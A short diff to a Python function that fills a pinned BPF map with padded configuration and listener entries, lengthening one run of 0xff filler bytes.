@@ -48,7 +48,7 @@ def fill_configs(path):
     text = ctypes.create_string_buffer(path.encode())
     fd = bpf(OBJ_GET, struct.pack("=QII", ctypes.addressof(text), 0, 0))[0]
     size = struct.unpack_from("=I", info(fd, 80), 12)[0]
-    head = b"A" * (32 + 4096) + b"\xff" * 32
+    head = b"A" * (32 + 4096) + b"\xff" * (32 + 56)
     listener = b"A" * 128 + struct.pack("=II", 1, 0)
     value = ctypes.create_string_buffer((head + listener * 1024)[:size], size)
     for number in range(2):
